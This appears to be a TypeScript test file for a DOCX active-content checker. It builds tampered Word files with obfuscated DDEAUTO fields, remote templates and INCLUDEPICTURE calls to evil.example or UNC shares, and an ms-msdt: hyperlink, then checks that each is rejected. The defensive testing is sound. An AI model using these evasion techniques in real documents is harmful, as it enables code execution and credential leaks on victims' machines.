import {
  Document,
  ExternalHyperlink,
  Footer,
  Packer,
  PageNumber,
  Paragraph,
  TableOfContents,
  TextRun,
} from 'docx';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { docxResume } from '../../../../../tests/support/documents.ts';
import { tamperedDocx } from '../../../../../tests/support/files.ts';
import { checkDocx } from './docx.ts';

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006/relationships';
const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const STRICT = 'http://purl.oclc.org/ooxml/wordprocessingml/main';
const TEMPLATE = `Type="${OFFICE}/attachedTemplate"`;
const EVIL = 'Target="https://evil.example/x.dotm"';
const DDE = 'DDEAUTO c:\\\\x';

const part = (name: string, xml: string | Buffer) =>
  tamperedDocx((zip) => {
    zip.file(name, xml);
  });
const relations = (xml: string) => part('word/_rels/settings.xml.rels', xml);
const relation = (attributes: string) =>
  relations(`<Relationships xmlns="${PACKAGE}"><Relationship Id="r1" ${attributes}/></Relationships>`);
const body = (xml: string, declarations = '') =>
  part(
    'word/document.xml',
    `<w:document xmlns:w="${WORD}" ${declarations}><w:body><w:p>${xml}</w:p></w:body></w:document>`,
  );
const run = (xml: string) => `<w:r>${xml}</w:r>`;
const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
const code = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
const field = (instruction: string, result = '') =>
  `${mark('begin')}${instruction}${mark('separate')}${result}${mark('end')}`;
const types = (xml: string) =>
  part(
    '[Content_Types].xml',
    `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>${xml}</Types>`,
  );

describe('DOCX files that bring something in, however it is spelled', () => {
  const cases: [string, () => Promise<Buffer>][] = [
    [
      'a bracket in a target',
      () => relation(`Target="https://evil.example/x.dotm?a>b" ${TEMPLATE} TargetMode="External"`),
    ],
    [
      'a bracket in an ID',
      () =>
        relations(
          `<Relationships xmlns="${PACKAGE}"><Relationship Id="a>" Type="${OFFICE}/oleObject" Target="media/a.png"/></Relationships>`,
        ),
    ],
    ...['r-x', 'é', 'r.x'].map((prefix): [string, () => Promise<Buffer>] => [
      `the prefix ${prefix}`,
      () =>
        relations(
          `<${prefix}:Relationships xmlns:${prefix}="${PACKAGE}"><${prefix}:Relationship Id="r1" ${TEMPLATE} ${EVIL} TargetMode="External"/></${prefix}:Relationships>`,
        ),
    ]),
    [
      'a mode inside of a target',
      () =>
        relation(
          `${TEMPLATE} Target="https://evil.example/x.dotm# TargetMode='Internal'" TargetMode="External"`,
        ),
    ],
    [
      'a type inside of a target',
      () => relation(`Target="https://evil.example/ Type='/hyperlink'" ${TEMPLATE} TargetMode="External"`),
    ],
    ['an escaped mode', () => relation(`${TEMPLATE} ${EVIL} TargetMode="&#x45;xternal"`)],
    ['an escaped type', () => relation(`Type="${OFFICE}/ole&#79;bject" Target="media/a.png"`)],
    ['blanks around a type', () => relation(`Type=" ${OFFICE}/aFChunk " Target="part.xml"`)],
    ['an address without its mode', () => relation(`${TEMPLATE} ${EVIL}`)],
    [
      'an escaped type of a part',
      () =>
        types(
          '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>',
        ),
    ],
    [
      'XML under the name of a picture',
      () =>
        types(
          '<Override PartName="/word/media/a.png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
        ),
    ],
    [
      'XML as the type of all pictures',
      () =>
        types(
          '<Default Extension="png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
        ),
    ],
    ['an escaped instruction', () => body(field(code('&#68;DEAUTO c:\\\\x')))],
    ['an instruction in CDATA', () => body(field(code(`<![CDATA[${DDE}]]>`)))],
    ['an instruction in CDATA in part', () => body(field(code('DD<![CDATA[EAU]]>TO c:\\\\x')))],
    ['a comment inside of an instruction', () => body(field(code('DD<!-- -->EAUTO c:\\\\x')))],
    ['a processing instruction inside of an instruction', () => body(field(code('DD<?a b?>EAUTO c:\\\\x')))],
    [
      'a bracket in an attribute of an instruction',
      () => body(run(`<w:instrText w:a="&gt;>">${DDE}</w:instrText>`)),
    ],
    ...[WORD, STRICT].map((uri): [string, () => Promise<Buffer>] => [
      `another prefix for ${uri}`,
      () =>
        part(
          'word/document.xml',
          `<x-é:document xmlns:x-é="${uri}"><x-é:p><x-é:r><x-é:instrText>${DDE}</x-é:instrText></x-é:r></x-é:p></x-é:document>`,
        ),
    ]),
    [
      'no prefix',
      () =>
        part(
          'word/document.xml',
          `<document xmlns="${WORD}"><p><r><instrText>${DDE}</instrText></r></p></document>`,
        ),
    ],
    ['an escaped simple field', () => body('<w:fldSimple w:instr="&#68;DEAUTO c:\\\\x"/>')],
    [
      'a bracket before a simple field’s instruction',
      () => body(`<w:fldSimple w:dirty="a>" w:instr="${DDE}"/>`),
    ],
    [
      'blanks that Word drops',
      () =>
        body(
          field(
            `${run('<w:instrText> DDE </w:instrText>')}${run('<w:instrText> AUTO c:\\\\x</w:instrText>')}`,
          ),
        ),
    ],
    [
      'an instruction partly in plain text',
      () => body(field(`${code('DDE')}${run('<w:t>AUTO c:\\\\x</w:t>')}`)),
    ],
    ['an instruction wholly in plain text', () => body(field(run(`<w:t>${DDE}</w:t>`)))],
    [
      'deleted text in between',
      () =>
        body(
          field(
            `${code('LI')}<w:del>${run('<w:delInstrText>zz</w:delInstrText>')}</w:del>${code('NK Word.Document c:\\\\x')}`,
          ),
        ),
    ],
    ['a deleted instruction', () => body(field(run(`<w:delInstrText>${DDE}</w:delInstrText>`)))],
    [
      'an instruction of another namespace in between',
      () =>
        body(
          field(`${code('LI')}<x:instrText>zz</x:instrText>${code('NK Word.Document c:\\\\x')}`),
          'xmlns:x="x"',
        ),
    ],
    [
      'an ignored instruction in between',
      () =>
        body(
          field(`${code('LI')}<x:a>${code('zz')}</x:a>${code('NK Word.Document c:\\\\x')}`),
          'xmlns:x="x"',
        ),
    ],
    [
      'a mark of another namespace in between',
      () =>
        body(
          field(`${code('LI')}<x:fldChar x:fldCharType="separate"/>${code('NK Word.Document c:\\\\x')}`),
          'xmlns:x="x"',
        ),
    ],
    [
      'a field that another one names',
      () => body(field(`${field(code('QUOTE 68 68 69'), run('<w:t>DDE</w:t>'))}${code(' c:\\\\x')}`)),
    ],
    ['a picture from the web', () => body(field(code('INCLUDEPICTURE "https://evil.example/p.png" \\d')))],
    [
      'a picture from the web behind a switch',
      () => body(field(code('INCLUDEPICTURE \\d https://evil.example/p.png'))),
    ],
    ['a picture from a share', () => body(field(code('INCLUDEPICTURE "\\\\\\\\evil\\\\p.png"')))],
    [
      'a picture from where a field says',
      () => body(field(`${code('INCLUDEPICTURE "')}${field(code('QUOTE x'))}${code('"')}`)),
    ],
    ['a link of a field that runs a program', () => body(field(code('HYPERLINK "ms-msdt:/id"')))],
    ['a link of a field to a share', () => body(field(code('HYPERLINK \\t "_blank" "\\\\\\\\evil\\\\s"')))],
    ['a database', () => body(field(code('DATABASE \\d "C:\\\\x.mdb"')))],
    [
      'an instruction outside of word/',
      () =>
        part(
          'other/document.xml',
          `<w:document xmlns:w="${WORD}"><w:instrText>${DDE}</w:instrText></w:document>`,
        ),
    ],
  ];
  it.each(cases)('%s', async (_, make) => {
    await expect(checkDocx(await make())).rejects.toMatchObject({ code: 'file_active' });
  });
});

describe('DOCX files that Word reads otherwise than the check', () => {
  const cases: [string, () => Promise<Buffer>][] = [
    [
      'an encoding behind many blanks',
      () => part('word/document.xml', `<?xml version="1.0"${' '.repeat(300)}encoding="utf-7"?><w:document/>`),
    ],
    [
      'two encodings',
      () => part('word/document.xml', '<?xml version="1.0" encoding="utf-8" encoding="utf-7"?><w:document/>'),
    ],
    [
      'a prefix that stands for nothing',
      () => part('word/document.xml', '<w:document><w:instrText>PAGE</w:instrText></w:document>'),
    ],
    ['an attribute twice', () => relation(`${TEMPLATE} Target="a.xml" Target="b.xml"`)],
    ['an entity', () => relation(`${TEMPLATE} Target="&a;"`)],
    [
      'bytes that are no UTF-8',
      () =>
        part(
          'word/_rels/settings.xml.rels',
          Buffer.from(`<Relationships xmlns="${PACKAGE}" a="\xff"/>`, 'latin1'),
        ),
    ],
  ];
  it.each(cases)('%s', async (_, make) => {
    await expect(checkDocx(await make())).rejects.toMatchObject({ code: 'file_broken' });
  });
});

describe('honest DOCX files', () => {
  const link = (target: string) =>
    relation(`Type="${OFFICE}/hyperlink" Target="${target}" TargetMode="External"`);
  const box = field(code(' PAGE '), run('<w:t>1</w:t>'));
  const cases: [string, () => Promise<Buffer>][] = [
    ['plain text', () => docxResume({ visible: ['Fine.'], hidden: 'x' })],
    ['a link', () => link('https://www.linkedin.com/in/me?a=b&amp;c=%3E#d')],
    ['a link to an address', () => link('mailto:me@example.com')],
    [
      'links, page numbers and contents of a library',
      async () =>
        Packer.toBuffer(
          new Document({
            features: { updateFields: true },
            sections: [
              {
                footers: {
                  default: new Footer({
                    children: [
                      new Paragraph({
                        children: [
                          new TextRun({ children: [PageNumber.CURRENT, ' / ', PageNumber.TOTAL_PAGES] }),
                        ],
                      }),
                    ],
                  }),
                },
                children: [
                  new TableOfContents('Contents', { hyperlink: true, headingStyleRange: '1-3' }),
                  new Paragraph({
                    children: [
                      new ExternalHyperlink({
                        link: 'https://example.com/?a=1&b=2',
                        children: [new TextRun('Me')],
                      }),
                    ],
                  }),
                ],
              },
            ],
          }),
        ),
    ],
    ['a page number', () => body(field(code(' PAGE   \\* MERGEFORMAT '), run('<w:t>1</w:t>')))],
    [
      'a simple page number',
      () => body(`<w:fldSimple w:instr=" NUMPAGES ">${run('<w:t>2</w:t>')}</w:fldSimple>`),
    ],
    [
      'a link as a field',
      () => body(field(code('HYPERLINK "https://example.com/a" \\o "Email: me"'), run('<w:t>Me</w:t>'))),
    ],
    [
      'a link to a bookmark',
      () => body(field(code(' HYPERLINK \\l "_Toc123" '), field(code('PAGEREF _Toc123 \\h')))),
    ],
    ['a link with its tip first', () => body(field(code('HYPERLINK \\o "Call: me" "tel:+1555"')))],
    [
      'contents',
      () =>
        body(
          field(code(' TOC \\o "1-3" \\h \\z \\u '), field(code(' PAGEREF _Toc1 \\h '), run('<w:t>1</w:t>'))),
        ),
    ],
    ['a field in a field', () => body(field(`${code('IF ')}${field(code('PAGE'))}${code(' = 1 "a" "b"')}`))],
    [
      'a picture that was pasted on a Mac',
      () =>
        body(
          field(
            code('INCLUDEPICTURE "/var/folders/ab/T/com.microsoft.Word/page1image123" \\* MERGEFORMATINET'),
          ),
        ),
    ],
    ['a picture of a drive', () => body(field(code('INCLUDEPICTURE "C:\\\\Users\\\\me\\\\p.png"')))],
    ['text that names a field', () => body(`${run(`<w:t>${DDE} LINK INCLUDETEXT</w:t>`)}${box}`)],
    ['text in the result that names a field', () => body(field(code('PAGE'), run('<w:t>LINK</w:t>')))],
    [
      'a field in a text box, twice',
      () =>
        body(
          field(
            code('PAGE'),
            run(
              `<mc:AlternateContent><mc:Choice Requires="wps"><w:p>${box}</w:p></mc:Choice><mc:Fallback><w:p>${box}</w:p></mc:Fallback></mc:AlternateContent>`,
            ),
          ),
          'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"',
        ),
    ],
    [
      'pictures',
      () =>
        types(
          '<Default Extension="png" ContentType="image/png"/><Default Extension="svg" ContentType="image/svg+xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
        ),
    ],
  ];
  it.each(cases)('%s', async (_, make) => {
    await expect(checkDocx(await make())).resolves.toBeUndefined();
  });
});

describe('DOCX files made to take long', () => {
  // Stored, because what shrinks to a two-hundredth is refused before it is read.
  const long = (unit: string, size = 3_100_000) =>
    new JSZip()
      .file('[Content_Types].xml', '<Types/>')
      .file(
        'word/document.xml',
        `<w:document xmlns:w="${WORD}">${code('PAGE')}${unit.repeat(size / unit.length)}</w:document>`,
      )
      .generateAsync({ type: 'nodebuffer', compression: 'STORE' });
  const attributes = Array.from({ length: 500 }, (_, n) => `a${n}=""`).join(' ');
  const cases: [string, () => Promise<Buffer>][] = [
    ['many tags', () => long('<w:p/>', 710_000)],
    ['many tags and much text', () => long('<w:p a="">text of words</w:p>')],
    ['many attributes', () => long(`<w:p ${attributes}/>`)],
    ['many references', () => long('&#68;', 99_000)],
    ['too many references', () => long('&#68;')],
    ['many fields', () => long(field(code('INCLUDEPICTURE a')))],
    ['many beginnings', () => long(mark('begin'))],
    ['many stretches', () => long('<a><w:p/></a>', 750_000)],
    ['a long instruction', () => long(field(code('INCLUDEPICTURE ".-'.repeat(100_000))), 2_000_000)],
    ['an instruction of many runs', () => long(code('HYPERLINK '))],
    ['an instruction of many switches', () => long(code('HYPERLINK \\l "'.repeat(190_000)), 2_900_000)],
    ['an instruction of quotes', () => long(code(`HYPERLINK ${' \\l "a'.repeat(400_000)}`), 2_500_000)],
    ['an instruction of blanks', () => long(code(`HYPERLINK ${' '.repeat(2_900_000)}x`), 2_950_000)],
    ['an instruction of one word', () => long(code(`INCLUDEPICTURE ${'a.'.repeat(1_400_000)}`), 2_900_000)],
  ];
  it.each(cases)('%s', async (_, make) => {
    const bytes = await make();
    const before = process.cpuUsage();
    await checkDocx(bytes).catch((error: unknown) => expect(error).toMatchObject({ name: 'DomainError' }));
    const { user, system } = process.cpuUsage(before);
    // 20 to 200 ms of a processor on a quiet machine; the bound tells linear from quadratic work.
    expect((user + system) / 1000).toBeLessThan(1_500);
  });
});
